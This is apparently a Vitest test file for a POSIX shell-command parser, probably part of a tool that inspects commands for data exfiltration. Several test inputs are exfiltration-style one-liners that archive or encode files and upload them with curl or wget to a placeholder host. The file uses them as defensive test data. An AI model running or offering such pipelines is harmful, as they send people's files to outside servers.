import { describe, expect, it } from 'vitest';
import { parsePosix } from './posix.js';

describe('parsePosix', () => {
  it('splits words with single quotes, double quotes and backslash escapes', () => {
    const { commands } = parsePosix(`openssl enc -k 'pa ss' -in "my file" -out a\\ b.enc`);
    expect(commands[0]!.argv).toEqual(['openssl', 'enc', '-k', 'pa ss', '-in', 'my file', '-out', 'a b.enc']);
  });
  it('keeps backslashes in double quotes except before $ ` " \\ and newline', () => {
    expect(parsePosix(`echo "a\\b \\"q\\" \\$x"`).commands[0]!.argv).toEqual(['echo', 'a\\b "q" $x']);
  });
  it('splits pipelines and lists and marks which commands pipe onwards', () => {
    const { commands } = parsePosix('tar cz . | openssl enc -aes-128-cbc -k x|curl -T - ftp://h/ && rm -f a; echo ok & wait || true');
    expect(commands.map((c) => [c.argv[0], c.pipesToNext])).toEqual([
      ['tar', true], ['openssl', true], ['curl', false], ['rm', false], ['echo', false], ['wait', false], ['true', false],
    ]);
  });
  it('collects output redirections and skips descriptor duplications', () => {
    const { commands } = parsePosix('gpg -c secret >/tmp/x.gpg 2>/dev/null 2>&1 < in.txt');
    expect(commands[0]!.argv).toEqual(['gpg', '-c', 'secret']);
    expect(commands[0]!.outputs).toEqual(['/tmp/x.gpg', '/dev/null']);
  });
  it('returns command substitutions with the command that consumes them', () => {
    const { commands, substitutions } = parsePosix('curl -d "x=$(base64 -w0 f | tr + -)" http://h; wget "--post-data=`xxd -p f`" h');
    expect(substitutions).toEqual([
      { script: 'base64 -w0 f | tr + -', consumer: 0 },
      { script: 'xxd -p f', consumer: 1 },
    ]);
    expect(commands[0]!.argv[0]).toBe('curl');
  });
  it('ignores comments and tolerates an unterminated quote', () => {
    expect(parsePosix('ls # openssl enc -aes-256-cbc').commands.map((c) => c.argv)).toEqual([['ls']]);
    expect(parsePosix(`echo 'unterminated`).commands[0]!.argv).toEqual(['echo', 'unterminated']);
  });
  it('handles a 1 MiB line of quotes and operators in one pass', () => {
    const hostile = `'"|;$(`.repeat(1 << 17);
    const { commands } = parsePosix(hostile);
    expect(Array.isArray(commands)).toBe(true);
  });
});
